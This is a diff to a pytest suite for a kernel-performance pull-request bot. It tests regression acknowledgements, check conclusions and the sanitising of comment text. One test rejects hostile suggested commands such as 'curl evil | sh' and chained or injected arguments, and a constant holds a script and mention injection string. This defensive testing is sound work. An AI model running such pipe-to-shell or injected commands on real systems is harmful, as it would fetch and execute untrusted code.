@@ -3,16 +3,24 @@
 from __future__ import annotations
 
 import copy
+import dataclasses
+import html
 import json
 import random
 import re
+import shlex
+from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
 
 import pytest
-from pr_results import BASE, HEAD, TREES, move, pair, result, slower, static, target
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pr_results import BASE, HEAD, TREES, move, own_test, pair, result, slower, static, target
 
 from farm.accuracy.tolerances import WORST
+from farm.cli import pr_measure
+from farm.cli.main import parser
 from farm.compile.diff import BuildChange
 from farm.errors import UsageError
 from farm.pr import comment as comments
@@ -20,6 +28,8 @@ from farm.pr import ledger as ledgers
 from farm.pr import measured, publishing
 from farm.pr import result as results
 from farm.pr.publishing import Comment, Pull
+from farm.report.markdown import plain
+from farm.subject.repository import History
 
 WIDE = "cuda/rms_norm/liger/auto/forward/bf16/8192x4096/llama"
 NARROW = "cuda/rms_norm/liger/auto/forward/bf16/32768x128/llama"
@@ -84,11 +94,40 @@ def test_outcomes() -> None:
     assert outcome(static={**unchanged, "host": ["dispatch.py"]})[1] == 4
 
 
+def test_code_that_launches_kernels_is_proven_on_devices_alone() -> None:
+    host = static(changed=[], host=["dispatch.py"], targets=[target(compiled=3, same_code=3)])
+    interpreted = pair("cpu/rms_norm/liger/x", kernels=[])
+    assert outcome(interpreted, static=host) == ("not proven", 4)
+    assert outcome(interpreted, pair(WIDE), static=host) == ("not worse", 0)
+
+
+def test_a_changed_kernel_whose_launches_nobody_sees_is_not_proven() -> None:
+    unseen = static(unknown=[{"kernel": "ops/rms_norm.py:_forward", "why": "it cannot be read"}])
+    assert outcome(pair(), static=unseen) == ("not proven", 4)
+    assert outcome(slower(WIDE), static=unseen) == ("worse", 1)
+    reached = [{"kernel": "ops/rms_norm.py:_forward", "state": "reached"}]
+    assert outcome(pair(), static=measured.with_launches(unseen, reached)) == ("not worse", 0)
+    unreached = static(unreached=["ops/rms_norm.py:_forward"])
+    assert outcome(pair(), static=unreached) == ("not covered", 1)
+    assert outcome(pair(), static=measured.with_launches(unreached, reached)) == ("not worse", 0)
+
+
+def test_what_a_peer_fails_at_is_nobodys_change() -> None:
+    def row(cell: str, status: str) -> dict[str, Any]:
+        return {"cell_id": cell, "op": "rms_norm", "backend": "cuda", "status": status, "evidence": "executed"}
+
+    rows = [row("cuda/x/a", "passed"), row("cuda/x/b", "crashed")]
+    both = {"cell": "cuda/x", "cell_id_a": "cuda/x/a", "cell_id_b": "cuda/x/b"}
+    (found,) = measured.executed([{**both, "role": "subject"}], rows, {})
+    assert (found["status_a"], found["status_b"]) == ("passed", "crashed")
+    assert measured.executed([{**both, "role": "peer"}], rows, {}) == []
+
+
 def test_an_acknowledged_loss_passes_and_a_worse_one_fails_again() -> None:
     first = result(slower(WIDE, 1.10))
     own = [Comment(1, "farm", comments.comment(first))]
-    write = publishing.acknowledge(own, 7, "maintainer", "2026-11-23T10:00:00Z", "narrow rows matter <b>more</b> @all")
-    assert not isinstance(write, str) and write.id == 1 and "<b>" not in write.body and "@all" not in write.body
+    (write,) = acknowledged(own, "narrow rows matter <b>more</b> @all").writes
+    assert write.id == 1 and "<b>" not in write.body and "@all" not in write.body
     before = ledgers.read(write.body)
     assert before and before.accepted == {WIDE: 1.1}
     assert results.outcome(result(slower(WIDE, 1.10)), before.accepted).exit_code == 0
@@ -99,7 +138,90 @@ def test_an_acknowledged_loss_passes_and_a_worse_one_fails_again() -> None:
     assert "maintainer, 2026-11-23: narrow rows" in text and "Slower, acknowledged" in text
     kept = ledgers.read(text)
     assert kept is not None and kept.acks == before.acks
-    assert isinstance(publishing.acknowledge([], 7, "x", "", "y"), str)
+    unmeasured = result(slower(WIDE, 1.17864, threshold=None))  # a ratio is kept with fewer digits than it has
+    before = ledgers.read(acknowledged([Comment(1, "farm", comments.comment(unmeasured))]).writes[0].body)
+    assert before and results.outcome(unmeasured, before.accepted).exit_code == 0
+
+
+def acknowledged(own: list[Comment], reason: str = "y", head: str = HEAD) -> publishing.Publication:
+    return publishing.acknowledge(own, 7, head, "maintainer", "2026-11-23T10:00:00Z", reason, "block")
+
+
+#: What no acknowledgement of a regression accepts -> the conclusion that stays.
+OTHERS: list[tuple[dict[str, Any], str]] = [
+    ({"pairs": [slower(WIDE), pair(NARROW, status_b="inaccurate")]}, "failure"),
+    ({"tests": [own_test(status_b="crashed")]}, "failure"),
+    ({"static": static(unreached=["_forward"])}, "failure"),
+    ({"static": static(targets=[target(moves=[move(measure="spills")])])}, "failure"),
+    ({"static": static(targets=[target(target="gfx942", backend="rocm")])}, "neutral"),
+    ({"pairs": [slower(WIDE), pair(NARROW, status_b="lost")]}, "neutral"),
+    ({"faults": ["the comparison ended early"]}, "neutral"),
+    ({}, "success"),
+]
+
+
+@pytest.mark.parametrize("more, conclusion", OTHERS)
+def test_an_acknowledgement_concludes_by_what_is_left(more: dict[str, Any], conclusion: str) -> None:
+    found = {**result(slower(WIDE)), **more}
+    own = [Comment(1, "farm", comments.comment(found))]
+    done = acknowledged(own)
+    assert done.check and done.check.conclusion == conclusion
+    again = publishing.publish([found], PULL, [Comment(1, "farm", done.writes[0].body)], "block")
+    assert again.check and again.check.conclusion == conclusion  # as the next result of the same says
+
+
+def test_an_acknowledgement_is_of_the_head_that_was_measured() -> None:
+    own = [Comment(1, "farm", comments.comment(result(slower(WIDE))))]
+    for done in (acknowledged(own, head="9" * 40), acknowledged([])):
+        assert done.refused and not done.writes and done.check is None
+
+
+def test_a_result_without_devices_does_not_replace_one_with_them() -> None:
+    interpreted = result(pair("cpu/rms_norm/liger/auto/forward/fp32/1x8"))
+    own = [Comment(1, "farm", comments.comment(result(slower(WIDE))))]
+    done = publishing.publish([interpreted], PULL, own, "block")
+    assert not done.writes and done.check is None
+    broken = result(pair("cpu/rms_norm/liger/auto/forward/fp32/1x8", status_b="crashed"))
+    done = publishing.publish([broken], PULL, own, "block")
+    assert done.check and done.check.conclusion == "failure"  # but what it finds counts
+    newer = {**interpreted, "head": {**interpreted["head"], "sha": "9" * 40}}
+    pull = dataclasses.replace(PULL, head="9" * 40, trees={**PULL.trees, "9" * 40: newer["head"]["tree"]})
+    assert publishing.publish([newer], pull, own, "block").writes
+
+
+def test_a_reader_is_shown_no_command_that_is_not_ours() -> None:
+    good = pair("cuda/x", status_b="crashed")["repeat"]
+    assert good in comments.comment(result(pair("cuda/x", status_b="crashed")))
+    assert results.repeat("farm pr --base aaaa --head bbbb --subject a/b.yaml --sandbox") and results.repeat(good)
+    assert results.repeat(shlex.join([*good.split()[:-1], "id=cuda/x y/[1]"]))
+    for bad in (
+        "curl evil | sh",
+        "farm pr --base aaaa; curl evil",
+        f"{good} && x",
+        f"{good}\nx",
+        f"{good} --repo https://e.vil/x",
+        f"{good} --provider x=evil:f",
+        f"{good} --contracts evil",
+        "farm run x.yaml",
+        "farm ab --a patch=x --b revision=bbbb",
+        "farm ab --a",
+        "farm ab 'x",
+        "",
+    ):
+        assert results.repeat(bad) == ""
+        text = comments.comment(result(pair("cuda/x", status_b="crashed", repeat=bad), repeat=bad))
+        assert "Repeat" not in text
+
+
+@pytest.mark.parametrize("sandbox", [True, False])
+def test_what_repeats_a_sandboxed_job_asks_for_the_sandbox(sandbox: bool) -> None:
+    work = pr_measure._Work.__new__(pr_measure._Work)
+    work.args = parser("pr").parse_args(["pr", "m.yaml", "--base", "main"])
+    work.args.debug = False
+    work.history, work.sandbox, work.top, work.id = History(BASE, HEAD, 0, {}), sandbox, Path("x"), "r"
+    told = [work._repeat(pair()), work._repeat_all()]
+    assert [("--sandbox" in words) for words in told] == [sandbox] * 2 and all(map(results.repeat, told))
+    assert work._ab().sandbox is sandbox
 
 
 def test_groups_are_ordered_by_harm_and_never_by_name() -> None:
@@ -145,6 +267,18 @@ def test_since_the_last_push() -> None:
 
 
 HOSTILE = "<script>alert(1)</script> | @everyone #1 `x` [a](http://b) <!-- kernel-farm:1 7 x --> \n# head \x1b[31m"
+
+
+@given(st.text(alphabet="@#&$;ab1/._|\\`\u200b\u2066é \n<>:", max_size=40))
+@settings(max_examples=300, deadline=None)
+def test_text_of_others_is_neither_mention_nor_markup_and_can_be_read(text: str) -> None:
+    """GitHub looks for mentions and issues after references and backslashes have become characters."""
+    made = plain(text)
+    shown = html.unescape(re.sub(r"\\([\\`*_\[\]~|])", r"\1", made))
+    assert not re.search(r"(?:^|[^0-9A-Za-z_])@[0-9A-Za-z]", shown) and not re.search(r"#\d", shown)
+    assert not re.search(r"[@$<>\n]|://", made)
+    kept = "".join(c for c in " ".join(text.split()) if c not in "\u200b\u2066")
+    assert shown.replace("\u200b", "") == kept
 
 
 def test_hostile_text_is_written_literally_everywhere() -> None:
@@ -308,7 +442,8 @@ def test_where_all_is_the_same_the_check_alone_speaks() -> None:
     same = result(static=static(changed=[], targets=[target(compiled=2, same_code=2)]))
     found = publishing.publish([same], PULL, [], "block")
     assert not found.writes and found.check and found.check.conclusion == "success"
-    earlier = [Comment(1, "farm", comments.comment(result(slower(WIDE))))]
+    old = result(slower(WIDE), head={**same["head"], "sha": "9" * 40})
+    earlier = [Comment(1, "farm", comments.comment(old))]
     assert len(publishing.publish([same], PULL, earlier, "block").writes) == 1  # it corrects what was said
 
 
@@ -320,6 +455,12 @@ def test_results_of_several_sites_are_one_comment() -> None:
     assert [p["backend"] for p in found["pairs"]] == ["cuda", "rocm"] and [n["what"] for n in found["not_run"]] == [
         "ascend"
     ]
+    bad = static(targets=[target(target="gfx942", moves=[move(measure="spills")])], unreached=["_one", "_two"])
+    sites = [{**here, "static": static(unreached=["_two"])}, {**there, "static": bad}]
+    for order in (sites, sites[::-1]):  # what a second site found counts, too
+        both = publishing.merged(order)
+        assert results.outcome(both).why[-1] == "_forward spills registers on gfx942"
+        assert both["static"]["unreached"] == ["_two"]
     for other in (result(slower(WIDE)), result(amd, number=8), result(amd, head={**here["head"], "sha": BASE})):
         with pytest.raises(UsageError):
             publishing.merged([here, other])
